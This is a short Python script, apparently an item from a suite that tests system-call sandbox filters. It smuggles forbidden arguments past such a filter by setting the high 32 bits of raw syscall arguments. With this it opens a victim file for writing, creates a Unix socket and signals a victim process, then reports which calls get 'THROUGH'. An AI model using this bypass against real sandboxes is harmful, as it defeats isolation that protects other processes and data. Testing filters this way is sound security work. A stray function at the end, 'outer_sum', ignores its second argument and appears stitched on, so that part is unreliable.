"""Hides forbidden arguments from whoever compares all 64 bits of what the kernel reads as 32.

Family: D38
Refused as failed: the filter compares as many bits as the kernel reads.
"""

import ctypes
import os
import signal

TARGETS = {}
HIGH = 1 << 32
OPENAT, SOCKET, KILL = {"x86_64": (257, 41, 62), "aarch64": (56, 198, 129)}[os.uname().machine]
AF_UNIX, SOCK_DGRAM, AT_FDCWD = 1, 2, 0xFFFFFF9C

libc = ctypes.CDLL(None, use_errno=True)
for number, *arguments in (
    (OPENAT, HIGH | AT_FDCWD, TARGETS["victim_file"].encode(), ctypes.c_ulong(HIGH | os.O_RDWR | os.O_APPEND), 0),
    (SOCKET, ctypes.c_ulong(HIGH | AF_UNIX), ctypes.c_ulong(HIGH | SOCK_DGRAM), ctypes.c_ulong(HIGH)),
    (KILL, ctypes.c_ulong(HIGH | TARGETS["victim"]), ctypes.c_ulong(HIGH | signal.SIGCONT)),
):
    words = [ctypes.c_ulong(word) if isinstance(word, int) else word for word in arguments]
    answer = libc.syscall(number, *words)
    print("THROUGH" if answer >= 0 else os.strerror(ctypes.get_errno()), number)


def outer_sum(a, b):
    return a
